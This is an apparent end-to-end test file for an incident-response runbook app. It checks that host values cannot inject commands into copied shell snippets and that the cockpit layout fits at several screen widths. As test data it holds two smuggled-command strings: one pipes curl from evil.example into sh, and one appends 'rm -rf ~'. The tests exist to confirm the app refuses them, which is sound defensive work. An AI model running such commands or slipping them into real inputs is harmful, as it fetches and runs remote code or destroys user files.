// Links that can't hurt and a cockpit that fits: a host value from a link or a form can
// never put another command on the clipboard, and the cockpit neither overlaps nor clips
// at phone, tablet and desktop widths.
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { ROOT, gotoApp, openPage, useSiteInBrowser } from './harness.mjs';

const site = useSiteInBrowser();
const fixtures = JSON.parse(await readFile(process.env.OUTPOST_SHARE_FIXTURES ?? 'target/share-fixtures.json', 'utf8'));
const RUNBOOK = '/r/incident-response/';
const INJECTION = '10.0.12.7:1/ >/dev/null; curl -s https://evil.example/x | sh; echo http://10.0.12.7';

async function clipboardPage(options = {}) {
  return openPage(site.browser, site.server.origin, { permissions: ['clipboard-read', 'clipboard-write'], ...options });
}

async function copiedHealthCheck(page) {
  const group = page.locator('.command', { hasText: 'Quick health check all services' });
  await group.locator('button.copy').first().click();
  await page.waitForFunction(() => document.querySelector('button.copy.copied') !== null);
  return page.evaluate(() => navigator.clipboard.readText());
}

describe('host values that would inject a command', () => {
  test('a ?EC2_HOST= link with shell in it is refused, said so, and never reaches a command', async () => {
    const page = await clipboardPage();
    await gotoApp(page, `${RUNBOOK}?EC2_HOST=${encodeURIComponent(INJECTION)}`);
    await page.waitForSelector('.hosts .host-problem');
    assert.match(await page.locator('.hosts .host-problem').innerText(), /EC2_HOST was refused: a host is .* \(from the link\)/);
    assert.equal(await page.getByLabel('EC2_HOST', { exact: true }).inputValue(), '');
    const copied = await copiedHealthCheck(page);
    assert.ok(!copied.includes('evil.example') && !copied.includes('| sh'), copied);
    assert.match(copied, /curl -s http:\/\/EC2_HOST:8765\/api\/health/);
    assert.deepEqual(page.problems, []);
  });

  test('the same value inside a share link is refused too', async () => {
    const page = await clipboardPage();
    await page.goto(`${site.server.origin}/s#${fixtures.injection}`);
    await page.waitForSelector('.cockpit');
    assert.match(await page.locator('.hosts .host-problem').innerText(), /EC2_HOST was refused/);
    const copied = await copiedHealthCheck(page);
    assert.ok(!copied.includes('evil.example'), copied);
    assert.deepEqual(page.problems, []);
  });

  test('a good host from a link is used and marked as coming from the link', async () => {
    const page = await clipboardPage();
    await gotoApp(page, `${RUNBOOK}?EC2_HOST=10.0.12.7`);
    const host = page.locator('label.host', { hasText: 'EC2_HOST' });
    await host.locator('.from-link').waitFor();
    assert.match(await copiedHealthCheck(page), /curl -s http:\/\/10\.0\.12\.7:8765\/api\/health/);
  });

  test('a bad value typed into the hosts panel is refused with the reason', async () => {
    const page = await clipboardPage();
    await gotoApp(page, RUNBOOK);
    await page.locator('.hosts summary').click();
    const input = page.getByLabel('EC2_HOST', { exact: true });
    await input.fill('api.example.com; rm -rf ~');
    await input.press('Enter');
    await input.blur();
    await page.locator('.hosts .host-problem', { hasText: 'EC2_HOST was refused' }).waitFor();
    assert.equal(await input.inputValue(), '');
    await input.fill('api.example.com');
    await input.blur();
    assert.match(await copiedHealthCheck(page), /http:\/\/api\.example\.com:8765/);
  });
});

describe('the cockpit at every width', () => {
  const WIDTHS = [320, 390, 768, 1024, 1440];

  /** Boxes of the cockpit's items as they are drawn, and whether any text is cut. */
  async function layout(page) {
    return page.evaluate(() => {
      const cockpit = document.querySelector('.cockpit');
      const items = [...cockpit.querySelectorAll('.cockpit-item, .cockpit-more-toggle')].filter((e) => e.getClientRects().length > 0);
      const boxes = items.map((e) => {
        const r = e.getBoundingClientRect();
        return { name: e.className, left: r.left, right: r.right, top: r.top, bottom: r.bottom };
      });
      const clipped = [...cockpit.querySelectorAll('*')]
        .filter((e) => e.getClientRects().length > 0 && e.tagName !== 'SELECT' && e.tagName !== 'PROGRESS')
        .filter((e) => e.scrollWidth > e.clientWidth + 1 && getComputedStyle(e).overflow !== 'visible')
        .map((e) => e.className || e.tagName);
      const outside = boxes.filter((b) => b.right > window.innerWidth + 0.5 || b.left < -0.5).map((b) => b.name);
      const rect = cockpit.getBoundingClientRect();
      return { boxes, clipped, outside, height: rect.height, viewport: window.innerHeight };
    });
  }

  for (const width of WIDTHS) {
    test(`${width} px: no item overlaps or is cut, and the first open step is on the first screen`, async () => {
      const page = await openPage(site.browser, site.server.origin, { viewport: { width, height: width < 700 ? 740 : 900 } });
      await page.clock.install({ time: new Date('2026-11-28T20:07:00Z') });
      await gotoApp(page, RUNBOOK);
      await page.getByRole('button', { name: 'Start incident' }).click();
      await page.waitForSelector('.cockpit');
      // Where the "Severity" label is hidden, the picker still says what it picks.
      assert.equal(await page.locator('#severity-picker option[value=""]').textContent(), 'SEV…');
      await page.selectOption('#severity-picker', 'SEV2');
      await page.clock.runFor(7 * 60_000); // an escalation countdown and a later phase show
      await page.waitForTimeout(200);
      const dir = join(ROOT, 'tests/e2e/artifacts');
      await mkdir(dir, { recursive: true });
      await page.screenshot({ path: join(dir, `cockpit-${width}.png`) });
      const { boxes, clipped, outside, height, viewport } = await layout(page);
      for (let i = 0; i < boxes.length; i++) {
        for (let j = i + 1; j < boxes.length; j++) {
          const [a, b] = [boxes[i], boxes[j]];
          const overlap = Math.min(a.right, b.right) - Math.max(a.left, b.left) > 1 && Math.min(a.bottom, b.bottom) - Math.max(a.top, b.top) > 1;
          assert.ok(!overlap, `${width} px: "${a.name}" overlaps "${b.name}"`);
        }
      }
      assert.deepEqual(clipped, [], `${width} px: text cut short`);
      assert.deepEqual(outside, [], `${width} px: items past the edge`);
      if (width < 700) assert.ok(height < 80, `${width} px: the cockpit is one compact row (${height} px high of ${viewport})`);
      const phaseLines = await page.locator('.phase-now').evaluate((e) => Math.round(e.getBoundingClientRect().height / parseFloat(getComputedStyle(e).lineHeight)));
      assert.ok(phaseLines <= 2, `${width} px: the phase name takes ${phaseLines} lines`);
      const firstOpen = page.locator('.step-check input:not(:checked)').first();
      const box = await firstOpen.boundingBox();
      assert.ok(box && box.y > 0 && box.y + box.height < viewport, `${width} px: the first open step is on screen (${JSON.stringify(box)})`);
      if (width < 700) {
        await page.getByRole('button', { name: /More|Escalate!/ }).click();
        await page.waitForSelector('.cockpit.more-open');
        const opened = await layout(page);
        assert.deepEqual(opened.clipped, [], `${width} px, opened: text cut short`);
        assert.deepEqual(opened.outside, [], `${width} px, opened: items past the edge`);
        await page.screenshot({ path: join(dir, `cockpit-${width}-more.png`) });
      }
      assert.deepEqual(page.problems, []);
    });
  }
});
